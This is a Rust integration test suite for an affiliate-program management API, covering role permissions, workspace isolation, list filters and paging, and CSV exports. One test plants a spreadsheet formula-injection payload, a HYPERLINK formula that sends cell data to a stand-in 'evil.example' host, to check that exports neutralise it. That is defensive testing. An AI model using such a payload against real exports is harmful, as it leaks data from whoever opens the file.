//! The management API for a program's own people: dashboard sessions with the role rules,
//! `GET /api/auth/me`, and the lists with their filters, pages and CSV.

use crate::common::*;
use serde_json::{json, Value};

const PASSWORD: &str = "correct horse battery";

/// A signed-in dashboard user of the tests.
struct Session(String);

impl Session {
    async fn of(app: &TestApp, workspace_id: i64, email: &str, role: &str) -> (Session, i64) {
        let user_id = app.member(workspace_id, email, PASSWORD, role).await;
        let r = app.login(email, PASSWORD).await.expect(200);
        (
            Session(r.body["token"].as_str().unwrap().to_string()),
            user_id,
        )
    }

    /// A call to `/api/admin{path}` with this session.
    async fn call(&self, app: &TestApp, method: &str, path: &str, body: Option<Value>) -> Reply {
        let auth = format!("Bearer {}", self.0);
        app.send(
            method,
            &format!("/api/admin{path}"),
            body,
            &[("authorization", &auth)],
        )
        .await
    }
}

/// A program whose commissions are due at once, with a sale of Alice's (20 % of 100.00),
/// Alice payable by PayPal; returns the seed and the commission's id.
async fn program_with_a_commission(app: &TestApp) -> (Seed, i64) {
    let seed = app
        .seed_with(json!({"commission_hold_days": 0, "min_payout_cents": 100}))
        .await;
    app.admin(
        "PATCH",
        &format!("/partners/{}", seed.partner_id),
        Some(json!({"payout_email": "alice@example.com"})),
    )
    .await
    .expect(200);
    let click_id = app.click(&seed.short_link).await;
    app.post_auth("/api/v1/track/sale", &seed.api_token, json!({"transaction_id": format!("t{}", seed.program_id), "amount_cents": 10000, "click_id": click_id}))
        .await
        .expect(200);
    let r = app
        .admin(
            "GET",
            &format!("/programs/{}/commissions", seed.program_id),
            None,
        )
        .await
        .expect(200);
    (seed, r.body["data"][0]["id"].as_i64().unwrap())
}

fn ids(body: &Value) -> Vec<i64> {
    body["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_i64().unwrap())
        .collect()
}

on_both_backends!(the_role_matrix);
async fn the_role_matrix(app: TestApp) {
    let (a, commission) = program_with_a_commission(&app).await;
    let (b, b_commission) = program_with_a_commission(&app).await;
    let b_payout = app
        .admin("POST", &format!("/programs/{}/payouts", b.program_id), None)
        .await
        .expect(201);
    let b_payout = b_payout.body["id"].as_i64().unwrap();
    let (owner, _) = Session::of(&app, a.workspace_id, "owner@example.com", "owner").await;
    let (admin, admin_id) = Session::of(&app, a.workspace_id, "admin@example.com", "admin").await;
    let (member, _) = Session::of(&app, a.workspace_id, "member@example.com", "member").await;
    let (viewer, _) = Session::of(&app, a.workspace_id, "viewer@example.com", "viewer").await;
    let p = a.program_id;
    let link = app
        .admin("GET", &format!("/links?program_id={p}"), None)
        .await
        .expect(200);
    let link_id = link.body["data"][0]["id"].as_i64().unwrap();

    // Every role reads its workspace's records.
    let reads = [
        format!("/programs/{p}"),
        format!("/programs/{p}/commissions"),
        format!("/programs/{p}/commissions?format=csv"),
        format!("/programs/{p}/balances"),
        format!("/programs/{p}/payouts"),
        format!("/programs/{p}/partners"),
        format!("/links/{link_id}"),
        format!("/links?program_id={p}"),
        "/partners".to_string(),
        "/programs".to_string(),
        "/workspaces".to_string(),
    ];
    for s in [&owner, &admin, &member, &viewer] {
        for path in &reads {
            s.call(&app, "GET", path, None).await.expect(200);
        }
    }

    // member and viewer change nothing: 403, and nothing is written.
    let changes: Vec<(&str, String, Value)> = vec![
        (
            "PATCH",
            format!("/programs/{p}"),
            json!({"name": "Renamed"}),
        ),
        ("POST", format!("/programs/{p}/rotate-token"), json!({})),
        (
            "POST",
            "/links".into(),
            json!({"program_id": p, "short_link": "viewer-link"}),
        ),
        (
            "PATCH",
            format!("/links/{link_id}"),
            json!({"status": "inactive"}),
        ),
        (
            "PATCH",
            format!("/partners/{}", a.partner_id),
            json!({"name": "Mallory"}),
        ),
        (
            "PATCH",
            format!("/programs/{p}/partners/{}", a.partner_id),
            json!({"status": "banned"}),
        ),
        (
            "POST",
            format!("/commissions/{commission}/reject"),
            json!({"reason": "test"}),
        ),
        ("POST", format!("/programs/{p}/payouts"), json!({})),
        (
            "POST",
            "/partners".into(),
            json!({"name": "New", "code": "new-by-viewer"}),
        ),
        (
            "POST",
            "/programs".into(),
            json!({"workspace_id": a.workspace_id, "name": "Another"}),
        ),
        (
            "PUT",
            format!("/programs/{p}/payment-account"),
            json!({"status": "connected"}),
        ),
    ];
    for s in [&member, &viewer] {
        for (method, path, body) in &changes {
            let r = s
                .call(&app, method, path, Some(body.clone()))
                .await
                .expect(403);
            assert!(
                r.error().contains("owner or admin"),
                "{method} {path}: {}",
                r.error()
            );
        }
    }
    assert_eq!(
        app.count("SELECT COUNT(*) FROM payouts").await,
        1,
        "only B's payout"
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM referral_links WHERE short_link = 'viewer-link'")
            .await,
        0
    );
    let program = app
        .admin("GET", &format!("/programs/{p}"), None)
        .await
        .expect(200);
    assert_eq!(program.body["name"], "Acme Partners");

    // owner and admin change them.
    admin
        .call(
            &app,
            "PATCH",
            &format!("/programs/{p}"),
            Some(json!({"name": "Renamed"})),
        )
        .await
        .expect(200);
    let payout = admin
        .call(
            &app,
            "POST",
            &format!("/programs/{p}/payouts"),
            Some(json!({})),
        )
        .await
        .expect(201);
    let payout_id = payout.body["id"].as_i64().unwrap();
    owner
        .call(
            &app,
            "GET",
            &format!("/payouts/{payout_id}/export?format=paypal"),
            None,
        )
        .await
        .expect(200);
    member
        .call(
            &app,
            "POST",
            &format!("/payouts/{payout_id}/mark-paid"),
            Some(json!({})),
        )
        .await
        .expect(403);
    owner
        .call(
            &app,
            "POST",
            &format!("/payouts/{payout_id}/mark-paid"),
            Some(json!({"reference": "PP-1"})),
        )
        .await
        .expect(200);
    owner
        .call(
            &app,
            "POST",
            "/links",
            Some(json!({"program_id": p, "partner_id": a.partner_id, "short_link": "owner-link"})),
        )
        .await
        .expect(201);

    // Anything of another workspace does not exist for them, whatever the role.
    let elsewhere: Vec<(&str, String, Option<Value>)> = vec![
        ("GET", format!("/programs/{}", b.program_id), None),
        (
            "PATCH",
            format!("/programs/{}", b.program_id),
            Some(json!({"name": "x"})),
        ),
        (
            "GET",
            format!("/programs/{}/commissions", b.program_id),
            None,
        ),
        ("GET", format!("/programs/{}/balances", b.program_id), None),
        ("GET", format!("/programs/{}/partners", b.program_id), None),
        (
            "GET",
            format!("/programs?workspace_id={}", b.workspace_id),
            None,
        ),
        ("GET", format!("/links?program_id={}", b.program_id), None),
        ("POST", format!("/commissions/{b_commission}/approve"), None),
        ("GET", format!("/payouts/{b_payout}"), None),
        ("POST", format!("/payouts/{b_payout}/cancel"), None),
        (
            "PATCH",
            format!("/partners/{}", b.partner_id),
            Some(json!({"name": "x"})),
        ),
        (
            "POST",
            "/programs".into(),
            Some(json!({"workspace_id": b.workspace_id, "name": "Mine now"})),
        ),
    ];
    for s in [&owner, &viewer] {
        for (method, path, body) in &elsewhere {
            let r = s.call(&app, method, path, body.clone()).await;
            assert_eq!(r.status, 404, "{method} {path}: {:?}", r.body);
        }
    }
    owner
        .call(
            &app,
            "POST",
            &format!("/programs/{p}/partners"),
            Some(json!({"partner_id": b.partner_id})),
        )
        .await
        .expect(404);
    let mine = owner.call(&app, "GET", "/programs", None).await.expect(200);
    assert_eq!(ids(&mine.body), [p]);
    let workspaces = owner
        .call(&app, "GET", "/workspaces", None)
        .await
        .expect(200);
    assert_eq!(ids(&workspaces.body), [a.workspace_id]);
    let links = owner.call(&app, "GET", "/links", None).await.expect(200);
    assert!(links.body["data"]
        .as_array()
        .unwrap()
        .iter()
        .all(|l| l["program_id"] == p));

    // Workspaces and users are the operator's; members are the owner's too.
    owner
        .call(&app, "POST", "/workspaces", Some(json!({"name": "Mine"})))
        .await
        .expect(403);
    owner
        .call(
            &app,
            "POST",
            "/users",
            Some(json!({"email": "x@example.com", "password": PASSWORD})),
        )
        .await
        .expect(403);
    // A program's payment account is its workspace's to state, as its other fields.
    let r = owner
        .call(
            &app,
            "PUT",
            &format!("/programs/{p}/payment-account"),
            Some(json!({"status": "connected"})),
        )
        .await
        .expect(200);
    assert_eq!(r.body["payment_account"]["status"], "connected");
    admin
        .call(
            &app,
            "PUT",
            &format!("/programs/{p}/payment-account"),
            Some(json!({"status": "pending"})),
        )
        .await
        .expect(200);
    owner
        .call(
            &app,
            "PUT",
            &format!("/programs/{}/payment-account", b.program_id),
            Some(json!({"status": "connected"})),
        )
        .await
        .expect(404);
    let other = app
        .admin(
            "POST",
            "/users",
            Some(json!({"email": "new@example.com", "password": PASSWORD})),
        )
        .await
        .expect(201);
    let other_id = other.body["id"].clone();
    admin
        .call(
            &app,
            "POST",
            &format!("/workspaces/{}/members", a.workspace_id),
            Some(json!({"user_id": other_id, "role": "viewer"})),
        )
        .await
        .expect(403);
    owner
        .call(
            &app,
            "POST",
            &format!("/workspaces/{}/members", b.workspace_id),
            Some(json!({"user_id": other_id, "role": "viewer"})),
        )
        .await
        .expect(404);
    owner
        .call(
            &app,
            "POST",
            &format!("/workspaces/{}/members", a.workspace_id),
            Some(json!({"user_id": other_id, "role": "viewer"})),
        )
        .await
        .expect(201);

    // The last active owner cannot demote or suspend itself away (the operator could).
    let owner_id = app
        .count("SELECT id FROM users WHERE email = 'owner@example.com'")
        .await;
    let path = format!("/workspaces/{}/members/{owner_id}", a.workspace_id);
    let r = owner
        .call(&app, "PATCH", &path, Some(json!({"role": "admin"})))
        .await
        .expect(409);
    assert!(r.error().contains("only active owner"), "{}", r.error());

    // A suspended member's session gets 403 everywhere in the workspace.
    owner
        .call(
            &app,
            "PATCH",
            &format!("/workspaces/{}/members/{admin_id}", a.workspace_id),
            Some(json!({"status": "suspended"})),
        )
        .await
        .expect(200);
    let r = admin
        .call(&app, "GET", &format!("/programs/{p}"), None)
        .await
        .expect(403);
    assert!(r.error().contains("suspended"), "{}", r.error());
    admin
        .call(
            &app,
            "PATCH",
            &format!("/programs/{p}"),
            Some(json!({"name": "x"})),
        )
        .await
        .expect(403);
    let none = admin.call(&app, "GET", "/programs", None).await.expect(200);
    assert!(none.body["data"].as_array().unwrap().is_empty());

    // No credentials, or credentials of another kind: 401.
    app.send("GET", &format!("/api/admin/programs/{p}"), None, &[])
        .await
        .expect(401);
    app.send(
        "GET",
        &format!("/api/admin/programs/{p}"),
        None,
        &[("authorization", &format!("Bearer {}", a.api_token))],
    )
    .await
    .expect(401);
    app.send(
        "GET",
        &format!("/api/admin/programs/{p}"),
        None,
        &[("authorization", "Bearer rts_unknown")],
    )
    .await
    .expect(401);
    let report = reftrack::verify::check(&*app.store).await.unwrap();
    assert!(report.ok(), "{}", report.to_json());
}

on_both_backends!(me_and_partners_a_session_creates);
async fn me_and_partners_a_session_creates(app: TestApp) {
    let a = app.seed().await;
    let b = app.seed().await;
    let (owner, owner_id) = Session::of(&app, a.workspace_id, "owner@example.com", "owner").await;
    let (b_owner, _) = Session::of(&app, b.workspace_id, "b@example.com", "owner").await;
    app.admin(
        "POST",
        &format!("/workspaces/{}/members", b.workspace_id),
        Some(json!({"user_id": owner_id, "role": "viewer", "status": "suspended"})),
    )
    .await
    .expect(201);

    let auth = format!("Bearer {}", owner.0);
    let me = app
        .send("GET", "/api/auth/me", None, &[("authorization", &auth)])
        .await
        .expect(200);
    assert_eq!(me.body["user"]["id"], owner_id);
    assert_eq!(me.body["user"]["email"], "owner@example.com");
    assert_eq!(me.body["two_factor"], false);
    assert_eq!(
        me.body["memberships"],
        json!([
            {"workspace_id": a.workspace_id, "workspace_name": "Acme", "role": "owner", "status": "active", "require_two_factor": false},
            {"workspace_id": b.workspace_id, "workspace_name": "Acme", "role": "viewer", "status": "suspended", "require_two_factor": false},
        ])
    );
    app.send(
        "GET",
        "/api/auth/me",
        None,
        &[("authorization", &format!("Bearer {ADMIN_TOKEN}"))],
    )
    .await
    .expect(401);
    app.send("GET", "/api/auth/me", None, &[]).await.expect(401);

    // A partner the owner creates is its workspace's: seen by it before it joins a
    // program, never by another workspace's owner.
    let created = owner
        .call(
            &app,
            "POST",
            "/partners",
            Some(json!({"name": "Zed", "code": "zed"})),
        )
        .await
        .expect(201);
    let zed = created.body["id"].as_i64().unwrap();
    let seen = owner
        .call(&app, "GET", "/partners?q=ZED", None)
        .await
        .expect(200);
    assert_eq!(ids(&seen.body), [zed]);
    let unseen = b_owner
        .call(&app, "GET", "/partners?q=zed", None)
        .await
        .expect(200);
    assert!(ids(&unseen.body).is_empty());
    b_owner
        .call(
            &app,
            "PATCH",
            &format!("/partners/{zed}"),
            Some(json!({"name": "Mine"})),
        )
        .await
        .expect(404);
    b_owner
        .call(
            &app,
            "POST",
            &format!("/programs/{}/partners", b.program_id),
            Some(json!({"partner_id": zed})),
        )
        .await
        .expect(404);
    owner
        .call(
            &app,
            "POST",
            &format!("/programs/{}/partners", a.program_id),
            Some(json!({"partner_id": zed})),
        )
        .await
        .expect(201);
    owner
        .call(
            &app,
            "PATCH",
            &format!("/partners/{zed}"),
            Some(json!({"payout_email": "zed@example.com"})),
        )
        .await
        .expect(200);
    // A workspace it may not change is refused by name; one it does not know is 404.
    owner
        .call(
            &app,
            "POST",
            "/partners",
            Some(json!({"name": "Y", "code": "y1", "workspace_id": b.workspace_id})),
        )
        .await
        .expect(403);
    owner
        .call(
            &app,
            "POST",
            "/partners",
            Some(json!({"name": "Y", "code": "y2", "workspace_id": 999999})),
        )
        .await
        .expect(404);
    app.admin(
        "POST",
        "/partners",
        Some(json!({"name": "Y", "code": "y3", "workspace_id": 999999})),
    )
    .await
    .expect(404);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM partners WHERE code LIKE 'y%'")
            .await,
        0
    );
    // The operator sees every partner.
    let all = app
        .admin("GET", "/partners?limit=100", None)
        .await
        .expect(200);
    assert_eq!(all.body["data"].as_array().unwrap().len(), 3);
}

on_both_backends!(lists_filter_page_and_export);
async fn lists_filter_page_and_export(app: TestApp) {
    let seed = app.seed().await;
    let other = app.seed().await;
    let p = seed.program_id;
    let (bob, bob_link) = app.add_partner(&seed, "bob_1").await;
    app.admin(
        "PATCH",
        &format!("/partners/{bob}"),
        Some(json!({"name": "Bob 100%"})),
    )
    .await
    .expect(200);
    let (carol, _) = app.add_partner(&seed, "carol").await;
    app.click(&bob_link).await;
    app.click(&bob_link).await;

    // Partners: search by name, email or code in any case; % and _ are literal.
    app.admin(
        "PATCH",
        &format!("/partners/{carol}"),
        Some(json!({"email": "Carol@Example.com"})),
    )
    .await
    .expect(200);
    let r = app
        .admin("GET", "/partners?q=CAROL@example", None)
        .await
        .expect(200);
    assert_eq!(ids(&r.body), [carol]);
    let r = app
        .admin("GET", "/partners?q=100%25", None)
        .await
        .expect(200);
    assert_eq!(ids(&r.body), [bob]);
    let r = app.admin("GET", "/partners?q=_", None).await.expect(200);
    assert_eq!(ids(&r.body), [bob]);
    let r = app.admin("GET", "/partners?q=ali", None).await.expect(200);
    assert_eq!(ids(&r.body), [other.partner_id, seed.partner_id]);

    // A program's partners: flat rows with their totals, newest first, by status.
    let r = app
        .admin("GET", &format!("/programs/{p}/partners"), None)
        .await
        .expect(200);
    let rows = r.body["data"].as_array().unwrap();
    assert_eq!(
        rows.iter()
            .map(|r| r["partner_id"].as_i64().unwrap())
            .collect::<Vec<_>>(),
        [carol, bob, seed.partner_id]
    );
    let bob_row = &rows[1];
    assert_eq!(bob_row["code"], "bob_1");
    assert_eq!(bob_row["status"], "approved");
    assert_eq!(bob_row["clicks"], 2);
    for field in [
        "name",
        "email",
        "created_at",
        "leads",
        "sales",
        "revenue_cents",
        "commission_cents",
    ] {
        assert!(bob_row.get(field).is_some(), "{field}");
    }
    app.admin(
        "PATCH",
        &format!("/programs/{p}/partners/{bob}"),
        Some(json!({"status": "banned"})),
    )
    .await
    .expect(200);
    let r = app
        .admin(
            "GET",
            &format!("/programs/{p}/partners?status=banned"),
            None,
        )
        .await
        .expect(200);
    assert_eq!(r.body["data"].as_array().unwrap().len(), 1);
    assert_eq!(r.body["data"][0]["partner_id"], bob);
    let r = app
        .admin(
            "PATCH",
            &format!("/programs/{p}/partners/{bob}"),
            Some(json!({"status": "pending"})),
        )
        .await
        .expect(409);
    assert!(r.error().contains("pending"), "{}", r.error());
    let r = app
        .admin(
            "PATCH",
            &format!("/programs/{p}/partners/{bob}"),
            Some(json!({"status": "gone"})),
        )
        .await
        .expect(400);
    assert!(r.error().contains("status must be one of"), "{}", r.error());
    app.admin(
        "PATCH",
        &format!("/programs/{p}/partners/{}", other.partner_id),
        Some(json!({"status": "approved"})),
    )
    .await
    .expect(404);
    app.admin(
        "PATCH",
        &format!("/programs/{p}/partners/{bob}"),
        Some(json!({"status": "approved"})),
    )
    .await
    .expect(200);
    app.admin("GET", &format!("/programs/{p}/partners?status=fired"), None)
        .await
        .expect(400);
    app.admin("GET", "/programs/999999/partners", None)
        .await
        .expect(404);

    // Its CSV holds every row, whatever the limit.
    let r = app
        .admin(
            "GET",
            &format!("/programs/{p}/partners?format=csv&limit=1"),
            None,
        )
        .await
        .expect(200);
    crate::common::assert_download(&r);
    let text = r.body.as_str().unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(
        header,
        reftrack::app::money::exports::PROGRAM_PARTNER_HEADER
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    assert_eq!(&rows[1][3], "bob_1");
    assert_eq!(&rows[1][6], "2");

    // Links by program, partner and status; pages walk them all once.
    app.admin("POST", "/links", Some(json!({"program_id": p, "partner_id": bob, "short_link": "bob-2", "status": "inactive"}))).await.expect(201);
    let r = app
        .admin(
            "GET",
            &format!("/links?program_id={p}&partner_id={bob}"),
            None,
        )
        .await
        .expect(200);
    assert_eq!(r.body["data"].as_array().unwrap().len(), 2);
    let r = app
        .admin(
            "GET",
            &format!("/links?partner_id={bob}&status=inactive"),
            None,
        )
        .await
        .expect(200);
    assert_eq!(r.body["data"].as_array().unwrap().len(), 1);
    assert_eq!(r.body["data"][0]["short_link"], "bob-2");
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/links?limit=2&cursor={c}"),
            None => "/links?limit=2".to_string(),
        };
        let page = app.admin("GET", &path, None).await.expect(200);
        seen.extend(ids(&page.body));
        // A link created mid-walk has a higher id: it does not shift the pages.
        if cursor.is_none() {
            app.admin(
                "POST",
                "/links",
                Some(json!({"program_id": p, "short_link": "late"})),
            )
            .await
            .expect(201);
        }
        match page.body["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => break,
        }
    }
    let mut sorted = seen.clone();
    sorted.sort_unstable_by(|a, b| b.cmp(a));
    sorted.dedup();
    assert_eq!(seen, sorted, "newest first, each once");
    assert_eq!(seen.len(), 5, "every link that existed when the walk began");

    // Programs and workspaces.
    let r = app
        .admin(
            "GET",
            &format!("/programs?workspace_id={}", other.workspace_id),
            None,
        )
        .await
        .expect(200);
    assert_eq!(ids(&r.body), [other.program_id]);
    assert!(
        r.body["data"][0]
            .get("api_token")
            .is_none_or(Value::is_null),
        "no token in lists"
    );
    let r = app
        .admin("GET", "/workspaces?limit=1", None)
        .await
        .expect(200);
    assert_eq!(ids(&r.body), [other.workspace_id]);
    assert!(r.body["next_cursor"].is_string());

    // Bad filters and pages name the problem.
    for (path, field) in [
        ("/links?program_id=abc", "program_id"),
        ("/links?partner_id=-1", "partner_id"),
        ("/links?status=broken", "status"),
        ("/programs?workspace_id=x", "workspace_id"),
        ("/workspaces?limit=0", "limit"),
        ("/partners?cursor=zzz", "cursor"),
    ] {
        let r = app.admin("GET", path, None).await.expect(400);
        assert!(r.error().contains(field), "{path}: {}", r.error());
    }
    app.admin("GET", "/programs?workspace_id=999999", None)
        .await
        .expect(404);
    app.admin("GET", "/links?program_id=999999", None)
        .await
        .expect(404);
}

on_both_backends!(csv_exports_keep_formulas_as_text);
async fn csv_exports_keep_formulas_as_text(app: TestApp) {
    let seed = app.seed().await;
    let p = seed.program_id;
    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
    let r = app
        .admin(
            "POST",
            "/partners",
            Some(json!({"name": name, "code": "sheet"})),
        )
        .await
        .expect(201);
    let id = r.body["id"].as_i64().unwrap();
    app.admin(
        "POST",
        &format!("/programs/{p}/partners"),
        Some(json!({"partner_id": id, "status": "approved"})),
    )
    .await
    .expect(201);

    let r = app
        .admin("GET", &format!("/programs/{p}/partners?format=csv"), None)
        .await
        .expect(200);
    let mut reader = csv::Reader::from_reader(r.body.as_str().unwrap().as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = rows
        .iter()
        .find(|r| &r[0] == id.to_string().as_str())
        .expect("the partner's row");
    // The API keeps the name as given; only the spreadsheet file quotes it.
    assert_eq!(&row[1], format!("'{name}"));
    assert_eq!(&row[3], "sheet");
    assert_eq!(&row[7], "0", "numbers stay numbers");
}

on_both_backends!(a_programs_partners_are_listed_newest_joined_first);
async fn a_programs_partners_are_listed_newest_joined_first(app: TestApp) {
    let seed = app.seed().await;
    let p = seed.program_id;
    let mut ids = Vec::new();
    for (name, code) in [("Bob", "bob"), ("Carol", "carol")] {
        let r = app
            .admin(
                "POST",
                "/partners",
                Some(json!({"name": name, "code": code})),
            )
            .await
            .expect(201);
        ids.push(r.body["id"].as_i64().unwrap());
    }
    let (bob, carol) = (ids[0], ids[1]);
    // Carol joins before Bob, though Bob's partner record is older.
    for partner in [carol, bob] {
        app.admin(
            "POST",
            &format!("/programs/{p}/partners"),
            Some(json!({"partner_id": partner})),
        )
        .await
        .expect(201);
    }
    let order = |r: &Reply| {
        r.body["data"]
            .as_array()
            .unwrap()
            .iter()
            .map(|row| row["partner_id"].as_i64().unwrap())
            .collect::<Vec<_>>()
    };
    let r = app
        .admin("GET", &format!("/programs/{p}/partners"), None)
        .await
        .expect(200);
    assert_eq!(order(&r), vec![bob, carol, seed.partner_id]);
    // Page by page, the same order.
    let mut seen = Vec::new();
    let mut cursor = String::new();
    loop {
        let r = app
            .admin(
                "GET",
                &format!("/programs/{p}/partners?limit=1{cursor}"),
                None,
            )
            .await
            .expect(200);
        seen.extend(order(&r));
        match r.body["next_cursor"].as_str() {
            Some(c) => cursor = format!("&cursor={c}"),
            None => break,
        }
    }
    assert_eq!(seen, vec![bob, carol, seed.partner_id]);
    let r = app
        .admin("GET", &format!("/programs/{p}/partners?format=csv"), None)
        .await
        .expect(200);
    let mut reader = csv::Reader::from_reader(r.body.as_str().unwrap().as_bytes());
    let firsts: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[0].to_string())
        .collect();
    assert_eq!(
        firsts,
        [bob, carol, seed.partner_id].map(|id| id.to_string())
    );
}

/// The `member.removed` entries of a workspace's audit log, newest first.
async fn removals(app: &TestApp, ws: i64) -> Vec<Value> {
    let log = app
        .admin(
            "GET",
            &format!("/workspaces/{ws}/audit-log?action=member.removed"),
            None,
        )
        .await
        .expect(200);
    log.body["data"].as_array().unwrap().clone()
}

on_both_backends!(owners_remove_members_and_the_log_says_so);
async fn owners_remove_members_and_the_log_says_so(app: TestApp) {
    let seed = app.seed().await;
    let ws = seed.workspace_id;
    let (owner, owner_id) = Session::of(&app, ws, "owner@example.com", "owner").await;
    let (admin, admin_id) = Session::of(&app, ws, "admin@example.com", "admin").await;
    let (viewer, viewer_id) = Session::of(&app, ws, "viewer@example.com", "viewer").await;
    let path = |id: i64| format!("/workspaces/{ws}/members/{id}");

    // Only owners manage members; the only active owner stays.
    admin
        .call(&app, "DELETE", &path(viewer_id), None)
        .await
        .expect(403);
    let r = owner
        .call(&app, "DELETE", &path(owner_id), None)
        .await
        .expect(409);
    assert!(r.error().contains("only active owner"), "{}", r.error());
    owner
        .call(&app, "DELETE", &path(999_999), None)
        .await
        .expect(404);

    // Removed: the viewer reaches nothing of the workspace any more.
    owner
        .call(&app, "DELETE", &path(viewer_id), None)
        .await
        .expect(204);
    viewer
        .call(&app, "GET", &format!("/programs/{}", seed.program_id), None)
        .await
        .expect(404);
    owner
        .call(&app, "DELETE", &path(viewer_id), None)
        .await
        .expect(404);
    let entries = removals(&app, ws).await;
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert_eq!(
        entries[0]["target"],
        json!({"type": "user", "id": viewer_id})
    );
    assert_eq!(entries[0]["actor"]["id"], owner_id);
    assert_eq!(entries[0]["details"]["role"], "viewer");

    // The operator may remove anyone, even the last active owner.
    app.admin("DELETE", &path(admin_id), None).await.expect(204);
    app.admin("DELETE", &path(owner_id), None).await.expect(204);
    let entries = removals(&app, ws).await;
    assert_eq!(entries.len(), 3);
    assert_eq!(entries[0]["actor"]["type"], "operator");
}
